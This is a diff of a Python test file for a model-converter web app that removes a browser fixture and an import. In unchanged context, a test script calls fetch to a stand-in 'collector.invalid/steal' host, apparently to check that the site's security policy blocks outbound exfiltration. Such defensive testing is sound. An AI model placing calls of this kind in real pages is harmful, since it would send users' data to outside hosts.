@@ -16,7 +16,6 @@ from support import site_file
 from converter import ConvertOptions, convert_model
 from converter.manifest import Feature, read_manifest
 from converter.reference import run_onnx
-from webapp.browser import launch
 from webapp.build import BuildOptions, build_site
 from webapp.headers import META_CONTENT_SECURITY_POLICY, MIME_TYPES
 from webapp.serve import running_server
@@ -72,16 +71,6 @@ window.acme.loaded.then(() => element.ready).then(() => setTimeout(() => {
   fetch('https://collector.invalid/steal?risk=1').catch(() => {});
 }, 100));
 """
-
-
-@pytest.fixture(scope="module")
-def browser(chromium: Path) -> Iterator[Any]:
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as playwright:
-        instance = launch(playwright, chromium)
-        yield instance
-        instance.close()
 
 
 def tabular_model(folder: Path) -> Path:
